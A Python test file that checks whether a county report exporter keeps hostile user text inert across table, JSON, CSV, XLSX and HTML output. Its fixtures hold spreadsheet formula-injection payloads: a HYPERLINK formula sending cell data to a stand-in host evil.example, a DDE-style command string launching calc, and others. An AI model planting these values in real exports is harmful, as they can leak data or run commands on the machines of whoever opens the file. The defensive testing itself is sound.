"""Text users typed goes into every export as text: no format fails on it, no spreadsheet reads it as a formula.

The hostile values are written straight into the demo's rows, as old data (imported before the input policy, or
typed before it existed) would be: village and township names, case numbers and titles, person names, meeting
titles, an alert's waiver reason. Then `lianxi report` writes all five formats and each is opened by its program.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from models.alerts import Alert
from models.cases import Case
from models.meetings import Meeting
from models.people import Person
from models.units import Township, Village
from server.reports.formats.cells import FORMULA_STARTS
from tests.reports.conftest import AS_OF_ISO, COUNTY, lianxi

HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"详情")'
HOSTILE = ("江亭村[/]", HYPERLINK, "=1+2", "+cmd", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "[bold red]x[/]", "\tTAB", "\rCR")
VERTICAL_TAB_NUMBER = "522728001-2023-\x0b0001"  # U+000B: XLSX (XML) cannot hold it


async def _make_hostile() -> None:
    """Hostile text in every text column a report shows; one case number holds a character XML forbids."""
    villages = await Village.all().order_by("code").limit(len(HOSTILE))
    for village, name in zip(villages, HOSTILE, strict=False):
        village.name = name
        await village.save(update_fields=["name"])
    townships = await Township.all().order_by("code")
    for township, name in zip(townships, ("=1+2", "江亭镇[/]", "@SUM(A1)"), strict=False):
        township.name = name
        await township.save(update_fields=["name"])
    for index, person in enumerate(await Person.all().order_by("id")):
        person.name = HOSTILE[index % len(HOSTILE)]
        await person.save(update_fields=["name"])
    for index, meeting in enumerate(await Meeting.all().order_by("id")):
        meeting.title = HOSTILE[index % len(HOSTILE)]
        await meeting.save(update_fields=["title"])
    cases = await Case.all().order_by("id")
    for index, case in enumerate(cases):
        case.title = HOSTILE[index % len(HOSTILE)]
        case.number = (VERTICAL_TAB_NUMBER, HYPERLINK, "=1+2", "@SUM(A1)")[index] if index < 4 else case.number
        await case.save(update_fields=["title", "number"])
    alerts = await Alert.all().order_by("id").limit(3)
    for alert in alerts:
        alert.waive_reason = HYPERLINK
        await alert.save(update_fields=["waive_reason"])


def _starts_a_formula(text: str) -> bool:
    """A text a spreadsheet would read as a formula (a plain signed number is a number, not a formula)."""
    return text.startswith(FORMULA_STARTS) and not text.lstrip("+-").replace(".", "", 1).isdigit()


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the formats read a built report; the backend does not matter
async def test_hostile_text_opens_in_every_format_as_text(demo: str, tmp_path: Path) -> None:
    await _make_hostile()
    files = {}
    for fmt in ("table", "json", "csv", "xlsx", "html"):
        output = tmp_path / f"report.{fmt}"
        result = lianxi(demo, "report", "--county", COUNTY, "--from", "2023-01-01", "--to", "2023-12-31",
                        "--as-of", AS_OF_ISO, "--format", fmt, "--output", str(output))
        assert result.returncode == 0, (fmt, result.stderr.decode())
        assert b"Traceback" not in result.stderr, fmt
        files[fmt] = output

    table = files["table"].read_text(encoding="utf-8")
    assert "江亭村[/]" in table and "江亭镇[/]" in table  # shown as typed, not read as markup
    assert "\x0b" not in table and "\x1b" not in table

    document = json.loads(files["json"].read_text(encoding="utf-8"))  # JSON carries the data as it is
    assert "江亭村[/]" in json.dumps(document, ensure_ascii=False)

    rows = list(csv.reader(io.StringIO(files["csv"].read_bytes().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _starts_a_formula(cell)]
    assert "'=1+2" in cells and "江亭村[/]" in cells
    assert "'" + HYPERLINK in cells  # a case number as a finding's subject code

    book = load_workbook(files["xlsx"])
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _starts_a_formula(cell.value), (sheet.title, cell.coordinate, cell.value)
                    assert "\x0b" not in cell.value
                    seen.append(cell.value)
    assert "'=1+2" in seen and "江亭村[/]" in seen

    html = files["html"].read_text(encoding="utf-8")
    assert "江亭村[/]" in html and "\x0b" not in html
    assert "<a " not in html and "=HYPERLINK(&quot;http://evil.example/&quot;" in html  # escaped, not a link
